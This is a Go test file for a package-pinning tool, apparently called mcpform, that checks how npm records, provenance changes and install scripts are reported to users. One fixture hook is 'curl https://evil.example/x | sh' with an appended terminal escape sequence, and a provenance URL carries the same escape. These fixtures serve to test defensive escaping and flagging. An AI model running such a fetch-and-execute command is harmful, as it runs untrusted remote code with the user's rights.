package plan

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mcpform/mcpform/lang"
	"github.com/mcpform/mcpform/lock"
	"github.com/mcpform/mcpform/pins/npm"
)

const (
	testRegistry = "https://registry.npmjs.org/"
	sriA         = "sha512-5U3OZh8Xq0Li4nA26l6uNvV9/1suMDuWSn+NjLZIhzinhMY6N3A4DCrxVecBGPf2PsNFKTEv5krxGPRwzxc7jQ=="
	sriB         = "sha512-6U3OZh8Xq0Li4nA26l6uNvV9/1suMDuWSn+NjLZIhzinhMY6N3A4DCrxVecBGPf2PsNFKTEv5krxGPRwzxc7jQ=="
)

// treeOf is a lockfile npm.CheckLockfile accepts: the root depending on
// top@1.0.0, and one package per name@version given.
func treeOf(pkgs ...string) []byte {
	var b strings.Builder
	b.WriteString(`{"lockfileVersion":3,"packages":{"":{"dependencies":{"top":"1.0.0"}}`)
	for _, p := range pkgs {
		name, v, _ := strings.Cut(p, "@")
		b.WriteString(`,"node_modules/` + name + `":{"version":"` + v + `","resolved":"` + testRegistry + name + `/-/` + name + `-` + v + `.tgz","integrity":"` + sriA + `"}`)
	}
	b.WriteString(`}}`)
	return []byte(b.String())
}

func digest(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

func npmRecord(version, integrity string, tree []byte, scripts ...string) *lock.NPM {
	return &lock.NPM{Package: "top", Version: version, Integrity: integrity, Registry: testRegistry,
		Lockfile: lock.FilePin{Path: ".mcpform/npm/s/package-lock.json", SHA256: digest(tree)}, Bin: "index.js", InstallScripts: scripts}
}

const (
	repoA = "https://github.com/acme/top"
	wfA   = ".github/workflows/release.yml@refs/tags/v1.1.0"
)

// withProvenance is a copy of rec with a verified provenance.
func withProvenance(rec *lock.NPM, repo, workflow string, commit ...string) *lock.NPM {
	c := *rec
	c.Provenance = &lock.Provenance{Repository: repo, Workflow: workflow}
	if len(commit) > 0 {
		c.Provenance.Commit = commit[0]
	}
	return &c
}

// TestNPMChanges: each difference of an npm record is a PKG-NPM change of
// class code, graded by the catalogue; the same record is no change, and a
// new server's record is written with it, install scripts aside.
func TestNPMChanges(t *testing.T) {
	t1 := treeOf("top@1.0.0", "dep@1.0.0", "gone@2.0.0")
	t2 := treeOf("top@1.0.0", "dep@1.1.0", "new@3.0.0")
	base := npmRecord("1.0.0", sriA, t1)
	for _, tt := range []struct {
		name             string
		newServer        bool
		old, live        *lock.NPM
		oldTree, newTree []byte
		want             []string // rule address action grade
		detail           string
	}{
		{"unchanged", false, base, base, nil, nil, nil, ""},
		{"new server", true, nil, base, nil, nil, nil, ""},
		{"new server with scripts", true, nil, npmRecord("1.0.0", sriA, t1, "node_modules/dep"), nil, nil,
			[]string{"PKG-NPM-INSTALL-SCRIPTS server.s.npm.installScripts update none"}, "node_modules/dep"},
		{"locked before npm", false, nil, base, nil, nil, []string{"PKG-NPM-ADDED server.s.npm create none"}, "top@1.0.0 pinned"},
		{"version", false, base, npmRecord("1.1.0", sriB, t2), t1, t2,
			[]string{"PKG-NPM-VERSION-CHANGED server.s.npm update major"}, "top@1.0.0 is now top@1.1.0; 3 package(s) of the tree differ: +new@3.0.0, -gone@2.0.0, dep 1.0.0 -> 1.1.0"},
		{"integrity", false, base, npmRecord("1.0.0", sriB, t1), nil, nil,
			[]string{"PKG-NPM-INTEGRITY-CHANGED server.s.npm.integrity update major"}, "another tarball"},
		{"tree", false, base, npmRecord("1.0.0", sriA, t2), t1, t2,
			[]string{"PKG-NPM-TREE-CHANGED server.s.npm.lockfile update major"}, "dep 1.0.0 -> 1.1.0"},
		{"scripts gained", false, base, npmRecord("1.0.0", sriA, t1, "node_modules/dep"), nil, nil,
			[]string{"PKG-NPM-INSTALL-SCRIPTS server.s.npm.installScripts update none"}, "1 package(s)"},
		{"provenance gained", false, base, withProvenance(npmRecord("1.1.0", sriB, t2), repoA, wfA), t1, t2,
			[]string{"PKG-NPM-VERSION-CHANGED server.s.npm update major", "PKG-NPM-PROVENANCE-ADDED server.s.npm.provenance create none"},
			"top@1.1.0 has a verified provenance: built from https://github.com/acme/top by .github/workflows/release.yml@refs/tags/v1.1.0"},
		{"provenance, same repository and workflow, another commit", false, withProvenance(base, repoA, wfA), withProvenance(npmRecord("1.1.0", sriB, t2), repoA, wfA, "1111111111111111111111111111111111111111"), t1, t2,
			[]string{"PKG-NPM-VERSION-CHANGED server.s.npm update major"}, ""},
		{"another source repository", false, withProvenance(base, repoA, wfA), withProvenance(npmRecord("1.1.0", sriB, t2), "https://github.com/evil/top\u001b[2K", wfA), t1, t2,
			[]string{"PKG-NPM-VERSION-CHANGED server.s.npm update major", "PKG-NPM-PROVENANCE-CHANGED server.s.npm.provenance.repository update major"},
			`top@1.1.0 was built from https://github.com/evil/top\u001b[2K, not from the locked https://github.com/acme/top`},
		{"another source repository, same version and tarball", false, withProvenance(base, repoA, wfA), withProvenance(base, "https://github.com/fork/top", wfA), nil, nil,
			[]string{"PKG-NPM-PROVENANCE-CHANGED server.s.npm.provenance.repository update major"}, "not from the locked https://github.com/acme/top"},
		{"another workflow", false, withProvenance(base, repoA, wfA), withProvenance(npmRecord("1.1.0", sriB, t2), repoA, ".github/workflows/ci.yml@refs/heads/dev"), t1, t2,
			[]string{"PKG-NPM-VERSION-CHANGED server.s.npm update major", "PKG-NPM-PROVENANCE-WORKFLOW-CHANGED server.s.npm.provenance.workflow update minor"},
			"by .github/workflows/ci.yml@refs/heads/dev, not by the locked .github/workflows/release.yml@refs/tags/v1.1.0"},
		{"provenance lost", false, withProvenance(base, repoA, wfA), npmRecord("1.1.0", sriB, t2), t1, t2,
			[]string{"PKG-NPM-VERSION-CHANGED server.s.npm update major", "PKG-NPM-PROVENANCE-REMOVED server.s.npm.provenance delete major"},
			"the locked tarball was built from https://github.com/acme/top by .github/workflows/release.yml@refs/tags/v1.1.0; the registry publishes no provenance for top@1.1.0"},
		{"new server with provenance", true, nil, withProvenance(base, repoA, wfA), nil, nil, nil, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var got []string
			details := ""
			for _, c := range npmChanges("server.s", tt.newServer, tt.old, tt.live, tt.oldTree, tt.newTree, nil) {
				seenRules[c.Rule] = true
				r, ok := LookupRule(c.Rule)
				if !ok || c.Class != Code || c.Grade != r.Grade || c.Security != r.Security {
					t.Errorf("%s: class %s grade %s security %v, not the catalogue's", c.Rule, c.Class, c.Grade, c.Security)
				}
				got = append(got, strings.Join([]string{c.Rule, c.Addr, c.Action.String(), c.Grade.String()}, " "))
				details += c.Detail
			}
			if strings.Join(got, "\n") != strings.Join(tt.want, "\n") {
				t.Errorf("changes:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(tt.want, "\n"))
			}
			if !strings.Contains(details, tt.detail) {
				t.Errorf("detail %q lacks %q", details, tt.detail)
			}
		})
	}
}

// TestNPMScriptChanges: the install scripts' texts, read from the installed
// tree, are shown escaped in the change and are its After value; allowing
// them to run is a security-relevant change of its own, and so is taking
// the permission back.
func TestNPMScriptChanges(t *testing.T) {
	t1 := treeOf("top@1.0.0", "dep@1.0.0")
	with := npmRecord("1.0.0", sriA, t1, "node_modules/dep")
	allowed := *with
	allowed.AllowInstallScripts = true
	scripts := []npm.PackageScripts{{Path: "node_modules/dep", Hooks: []npm.Hook{
		{Name: "preinstall", Command: "curl https://evil.example/x | sh\u001b[2K"},
		{Name: "postinstall", Command: "node install.js"},
	}}}
	for _, tt := range []struct {
		name      string
		newServer bool
		old, live *lock.NPM
		want      []string // rule action security
		detail    []string
	}{
		{"new server, texts shown", true, nil, with, []string{"PKG-NPM-INSTALL-SCRIPTS update true"},
			[]string{`node_modules/dep (preinstall: "curl https://evil.example/x | sh\u001b[2K"; postinstall: "node install.js")`, "which mcpform does not run", "allow_install_scripts = true"}},
		{"allowed on a new server", true, nil, &allowed, []string{"PKG-NPM-INSTALL-SCRIPTS update true", "PKG-NPM-SCRIPTS-ALLOWED update true"},
			[]string{"which run with your rights", `mcpform installs top@1.0.0 with the install scripts of its tree run`, `postinstall: "node install.js"`}},
		{"allowed later", false, with, &allowed, []string{"PKG-NPM-SCRIPTS-ALLOWED update true"}, []string{"preinstall: "}},
		{"disallowed", false, &allowed, with, []string{"PKG-NPM-SCRIPTS-DISALLOWED update false"}, []string{"without running its install scripts"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var got []string
			details := ""
			for _, c := range npmChanges("server.s", tt.newServer, tt.old, tt.live, t1, t1, scripts) {
				seenRules[c.Rule] = true
				r, ok := LookupRule(c.Rule)
				if !ok || c.Class != Code || c.Grade != r.Grade || c.Security != r.Security {
					t.Errorf("%s: class %s grade %s security %v, not the catalogue's", c.Rule, c.Class, c.Grade, c.Security)
				}
				got = append(got, fmt.Sprintf("%s %s %v", c.Rule, c.Action, c.Security))
				details += c.Detail + "\n"
				if c.Rule == "PKG-NPM-INSTALL-SCRIPTS" && !strings.Contains(string(c.After), `"hook":"postinstall","command":"node install.js"`) {
					t.Errorf("the change's After is not the scripts: %s", c.After)
				}
				if strings.ContainsRune(c.Detail, 0x1b) {
					t.Errorf("detail prints a raw escape: %q", c.Detail)
				}
			}
			if strings.Join(got, "\n") != strings.Join(tt.want, "\n") {
				t.Errorf("changes:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(tt.want, "\n"))
			}
			for _, d := range tt.detail {
				if !strings.Contains(details, d) {
					t.Errorf("details %q lack %q", details, d)
				}
			}
		})
	}
}

// TestPlanNPMKeepsLockedTree: a locked record whose stored lockfile still
// has its digest is kept without asking the registry (an unroutable one
// here); one whose file changed is resolved again, and an unreachable
// registry is the server's plan error saying what to do.
func TestPlanNPMKeepsLockedTree(t *testing.T) {
	dir := t.TempDir()
	tree := treeOf("top@1.0.0")
	rec := npmRecord("1.0.0", sriA, tree)
	p := filepath.Join(dir, filepath.FromSlash(rec.Lockfile.Path))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, tree, 0o644); err != nil {
		t.Fatal(err)
	}
	t.Setenv("npm_config_registry", "http://127.0.0.1:9/")
	old := &lock.Entry{Mcpform: &lock.Settings{NPM: rec}}
	spec := &npm.Spec{Runner: "npx", Package: "top", Version: "1.0.0", Requested: "1.0.0"}
	r := planNPM(t.Context(), spec, "s", old, dir)
	if r.err != nil || r.rec != rec || r.files != nil {
		t.Fatalf("planNPM of an intact locked tree = %+v; want the locked record kept", r)
	}
	if err := os.WriteFile(p, treeOf("top@1.0.0", "x@1.0.0"), 0o644); err != nil {
		t.Fatal(err)
	}
	r = planNPM(t.Context(), spec, "s", old, dir)
	if r.err == nil || !strings.Contains(r.err.Error(), "it needs the npm registry") || !strings.Contains(r.err.Error(), "the lock is not changed") {
		t.Fatalf("planNPM with a changed stored lockfile and no registry = %v", r.err)
	}
	if _, err := StoredLockfile(dir, rec); err == nil || !strings.Contains(err.Error(), "is not the one locked") {
		t.Errorf("StoredLockfile of a changed file = %v", err)
	}
}

// TestPlanNPMRefusesNodeOptions: an npm server whose env passes
// NODE_OPTIONS or NODE_PATH is a plan error before anything is resolved:
// node would load code from outside the pinned tree.
func TestPlanNPMRefusesNodeOptions(t *testing.T) {
	for _, name := range []string{"NODE_OPTIONS", "NODE_PATH"} {
		s := &lang.Server{Name: "s", Command: []string{"npx", "-y", "top@1.0.0"}, Env: []string{"PATH", name}}
		r, ok := planNPMServer(t.Context(), s, nil, t.TempDir(), t.TempDir(), nil)
		if !ok || r.err == nil || !strings.Contains(r.err.Error(), "remove "+name+" from the server's env") {
			t.Errorf("%s: planNPMServer = %v, %v", name, ok, r.err)
		}
	}
}
